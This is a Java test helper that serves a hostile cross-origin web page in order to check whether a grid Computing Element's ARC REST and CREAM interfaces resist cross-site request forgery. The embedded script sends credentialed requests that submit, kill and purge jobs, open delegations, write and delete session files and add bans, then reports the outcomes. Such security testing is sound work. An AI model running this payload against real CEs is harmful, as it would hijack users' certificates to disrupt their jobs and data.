package org.gelato.ce.it.monitoring;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import com.sun.net.httpserver.HttpsConfigurator;
import com.sun.net.httpserver.HttpsServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import javax.net.ssl.SSLContext;

/**
 * A page of another origin that sends everything a browser lets it send to a CE with its visitor's certificate, and then reports to its
 * own server how each request went.
 */
final class HostilePage implements AutoCloseable {
    /** Requests that a browser sends without asking the CE first. */
    static final int SENT_AT_ONCE = 9;

    static final String JOB = "&(executable=/bin/sleep)(arguments=600)(queue=long)";
    static final String PURGE = "<e:Envelope xmlns:e='http://schemas.xmlsoap.org/soap/envelope/'><e:Body>"
            + "<t:JobPurgeRequest xmlns:t='http://glite.org/2007/11/ce/cream/types'/></e:Body></e:Envelope>";

    private static final String PAGE = """
            <!DOCTYPE html><meta charset="utf-8"><title>Kittens</title>
            <iframe name="sink"></iframe>
            <form method="post" enctype="text/plain" target="sink" action="CE/arex/rest/1.0/jobs?action=new">
              <input name='&amp;(executable=/bin/sleep)(arguments=600)(queue=long)(jobname="a' value='")'></form>
            <script>
            const ce = 'CE', job = 'ID', jobs = ce + '/arex/rest/1.0/jobs';
            const purge = new Blob(["PURGE"]), kill = '{"job":[{"id":"' + job + '"}]}';
            const results = {};
            const send = (name, url, options) => fetch(url, {credentials: 'include', mode: 'no-cors', ...options})
              .then(r => results[name] = r.type, e => results[name] = 'failed');
            const form = () => new Promise(done => {
              document.querySelector('iframe').onload = () => done(results.form = 'sent');
              document.forms[0].submit();
            });
            (async () => {
              await send('read', jobs);
              await send('submit', jobs + '?action=new', {method: 'POST', body: 'JOB'});
              await send('submit urlencoded', jobs + '?action=new', {method: 'POST', body: new URLSearchParams('JOB')});
              results.beacon = navigator.sendBeacon(jobs + '?action=new', 'JOB') ? 'queued' : 'failed';
              await send('delegation', ce + '/arex/rest/1.0/delegations?action=new', {method: 'POST'});
              await send('purge', ce + '/ce-cream/services/CREAM2', {method: 'POST', body: purge});
              await send('purge as text', ce + '/ce-cream/services/CREAM2', {method: 'POST', body: "PURGE"});
              await send('cancel', jobs + '?action=kill', {method: 'POST', body: kill});
              await send('cancel of a form', jobs + '?action=kill', {method: 'POST', body: new FormData(document.forms[0])});
              await send('SOAP', ce + '/ce-cream/services/CREAM2',
                {method: 'POST', mode: 'cors', headers: {'Content-Type': 'text/xml'}, body: purge});
              await send('file', jobs + '/' + job + '/session/in.txt', {method: 'PUT', mode: 'cors', body: 'evil'});
              await send('ban', ce + '/ce-cream/admin/bans?vo=dteam', {method: 'PUT', mode: 'cors'});
              await send('delete', jobs + '/' + job + '/session/in.txt', {method: 'DELETE', mode: 'cors'});
              await form();
              await fetch('/results', {method: 'POST', body: JSON.stringify(results)});
            })();
            </script>
            """;

    private final HttpServer server;
    private final String scheme;
    private final CompletableFuture<JsonNode> results = new CompletableFuture<>();

    /**
     * Begins to serve it.
     *
     * @param ce {@code https://host:port} of the victim
     * @param job the ARC id of the victim's job
     * @param tls of an origin of the CE's own site, {@code https://localhost}; null for one of another site, {@code http://127.0.0.1}
     */
    HostilePage(String ce, String job, SSLContext tls) throws IOException {
        InetSocketAddress free = new InetSocketAddress(InetAddress.getLoopbackAddress(), 0);
        if (tls == null) {
            server = HttpServer.create(free, 0);
        } else {
            HttpsServer secure = HttpsServer.create(free, 0);
            secure.setHttpsConfigurator(new HttpsConfigurator(tls));
            server = secure;
        }
        scheme = tls == null ? "http://127.0.0.1:" : "https://localhost:";
        String page = PAGE.replace("CE/", ce + "/")
                .replace("'CE'", "'" + ce + "'")
                .replace("PURGE", PURGE)
                .replace("'JOB'", "'" + JOB + "'")
                .replace("'ID'", "'" + job + "'");
        server.createContext("/", exchange -> answer(exchange, page));
        server.createContext("/results", exchange -> {
            results.complete(new ObjectMapper().readTree(exchange.getRequestBody()));
            answer(exchange, "");
        });
        server.start();
    }

    private static void answer(HttpExchange exchange, String page) throws IOException {
        byte[] bytes = page.getBytes(StandardCharsets.UTF_8);
        exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
        exchange.sendResponseHeaders(200, bytes.length == 0 ? -1 : bytes.length);
        exchange.getResponseBody().write(bytes);
        exchange.close();
    }

    String url() {
        return scheme + server.getAddress().getPort() + "/";
    }

    /** How its requests went, once it has sent all; by their names: {@code opaque} is a response that the page cannot read. */
    JsonNode results() throws Exception {
        return results.get(3, TimeUnit.MINUTES);
    }

    @Override
    public void close() {
        server.stop(0);
    }
}
